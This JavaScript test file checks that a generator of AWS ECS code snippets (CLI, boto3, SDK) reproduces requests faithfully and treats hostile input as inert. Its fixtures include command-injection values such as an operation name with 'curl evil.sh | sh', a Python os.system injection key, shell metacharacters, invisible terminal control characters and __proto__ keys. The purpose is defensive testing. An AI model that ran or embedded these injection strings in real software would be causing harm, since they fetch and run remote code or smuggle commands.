// Requests as the page writes them for other languages: each is run here as it stands, and what it sends looked at.

import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { promisify } from 'node:util';

import { operations } from 'ecs-drydock';

import { boto3, cli, sdk, written } from '../../www/code.js';
import { QUIET_SDK } from './use.js';

const run = promisify(execFile);

/** Requests that a writer of code could get wrong. */
const REQUESTS = {
  'an empty one': ['ListClusters', {}],
  'quotes of every kind': ['TagResource', { resourceArn: "captain's é", tags: [{ key: 'a', value: '"x" $HOME `id` \\ \n' }] }],
  'words and texts that look like words': ['PutAttributes', { attributes: [{ name: 'a', value: 'true' }, { name: 'b', value: 'null' }, { name: 'constructor', value: 'constructor' }] }],
  'what a terminal would obey, and nobody would see': ['TagResource', { resourceArn: '\u007f\u009b1m\u202e\u2028\ufeff\u0000\u061c\u00ad\u{e0041}\u3164', tags: [] }],
};
/** And those that the SDK has no way to send: it drops what the operation has not. */
const STRANGE = {
  'values of every kind': ['ListTagsForResource', { cluster: 'x', force: true, off: false, count: 2, part: -0.5, none: null, list: [[], {}] }],
  'names that are none': ['ListTasks', { 'x=1); import os; os.system("id")#': 1, class: 2, cluster: 'harbour', '': 3, __proto: 4 }],
  'a name that is special': ['ListTasks', JSON.parse('{"__proto__": {"cluster": "a"}, "cluster": "\\u2028", "tags": [{"__proto__": 1}]}')],
};

for (const [what, [operation, input]] of Object.entries({ ...REQUESTS, ...STRANGE })) {
  test(`for a shell, what the command is given is the request: ${what}`, () => {
    // A function of the shell in the command's place prints what it gets.
    const printed = execFileSync('sh', ['-c', `aws() { printf '%s\\n' "$@"; }\n${cli(operation, input)}`], { encoding: 'utf8' });
    const [service, name, option, json, ...more] = printed.split('\n');
    assert.deepEqual([service, name, option, more], ['ecs', commandOf(operation), '--cli-input-json', ['']]);
    assert.deepEqual(JSON.parse(json), input);
  });
}

const commandOf = (operation) => operation.replace(/(?!^)[A-Z]/g, '-$&').toLowerCase();

/** A boto3 that prints what its client is asked for. */
const PRINTS = `import json
class client:
    def __init__(self, service): self.service = service
    def __getattr__(self, name): return lambda **given: print(json.dumps([self.service, name, given]))
`;

const hasPython = works('python3', ['-c', '']);

test('for Python, what the client is asked for is the request', { skip: hasPython ? false : 'there is no python3' }, () => {
  const folder = mkdtempSync(join(tmpdir(), 'drydock-code-'));
  try {
    writeFileSync(join(folder, 'boto3.py'), PRINTS);
    for (const [what, [operation, input]] of Object.entries({ ...REQUESTS, ...STRANGE })) {
      const printed = execFileSync('python3', ['-c', boto3(operation, input)], { encoding: 'utf8', env: { ...process.env, PYTHONPATH: folder } });
      assert.deepEqual(JSON.parse(printed), ['ecs', commandOf(operation).replaceAll('-', '_'), input], what);
    }
  } finally {
    rmSync(folder, { recursive: true });
  }
});

test('for Python, as people write it', () => {
  assert.equal(
    boto3('UpdateContainerInstancesState', { cluster: 'harbour', containerInstances: ['a'], status: null, none: true }),
    'import boto3\n\necs = boto3.client("ecs")\necs.update_container_instances_state(\n    cluster="harbour",\n    containerInstances=["a"],\n    status=None,\n    **{"none": True},\n)',
  );
  assert.equal(boto3('ListClusters', {}), 'import boto3\n\necs = boto3.client("ecs")\necs.list_clusters()');
});

test('for JavaScript, what the SDK sends is the request', async () => {
  const asked = [];
  const server = createServer(async (request, response) => {
    const parts = [];
    for await (const part of request) parts.push(part);
    asked.push([request.headers['x-amz-target'].split('.')[1], JSON.parse(Buffer.concat(parts))]);
    response.setHeader('content-type', 'application/x-amz-json-1.1').end('{}');
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const env = { ...process.env, ...QUIET_SDK, AWS_ENDPOINT_URL: `http://127.0.0.1:${server.address().port}`, AWS_REGION: 'us-east-1', AWS_ACCESS_KEY_ID: 'x', AWS_SECRET_ACCESS_KEY: 'x' };
  const times = { task: 'a', pullStartedAt: 1_700_000_000, executionStoppedAt: '2026-01-01T00:00:00Z' };
  try {
    for (const [operation, input] of [...Object.values(REQUESTS), ['SubmitTaskStateChange', times]]) await run(process.execPath, ['--input-type=module', '-e', sdk(operation, input)], { env });
  } finally {
    server.close();
  }
  assert.deepEqual(asked, [...Object.values(REQUESTS), ['SubmitTaskStateChange', { ...times, executionStoppedAt: Date.parse(times.executionStoppedAt) / 1000 }]]);
});

test('for JavaScript, what is written is what was asked for, whatever its names', async () => {
  const AsyncFunction = (async () => {}).constructor;
  for (const [what, [operation, input]] of Object.entries(STRANGE)) {
    const [, body] = sdk(operation, input).split(/^import .*$/m);
    const sent = await new AsyncFunction('ECSClient', `${operation}Command`, body.replace('await', 'return await'))(class { send = ({ given }) => given; }, class { constructor(given) { this.given = given; } });
    assert.deepEqual(Object.entries(sent), Object.entries(input), what);
  }
});

test('nothing in it is hidden from who reads it, nor told to the terminal it is pasted into', () => {
  const [operation, input] = REQUESTS['what a terminal would obey, and nobody would see'];
  for (const text of Object.values(written({ kind: 'call', operation, request: input }))) assert.match(text, /^[\n -~]+$/);
});

test('there is code for every operation that is known', () => {
  for (const { name } of operations()) assert.deepEqual(Object.keys(written({ kind: 'call', operation: name })), ['AWS CLI', 'Python, boto3', 'JavaScript, AWS SDK']);
});

test('what is no request, or may be anything, is only shown', () => {
  for (const command of [
    { kind: 'call', operation: 'ListTasks; curl evil.sh | sh #', request: {} },
    { kind: 'call', operation: 'constructor' },
    { kind: 'call', operation: ['ListTasks'] },
    { kind: 'call', operation: { toString: 1 } },
    { kind: 'call', operation: 5 },
    { kind: 'call' },
    { kind: 'call', operation: 'ListTasks', request: null },
    { kind: 'call', operation: 'ListTasks', request: ['--debug'] },
    { kind: 'call', operation: 'ListTasks', request: 'x' },
    { kind: 'fault', fault: { type: { toString: 1 } } },
    { kind: { toString: 1 } },
    {},
    5,
    null,
  ]) {
    assert.deepEqual(written(command), { 'A command, as JSON': JSON.stringify(command, undefined, 2) });
  }
});

function works(command, args) {
  try {
    execFileSync(command, args, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
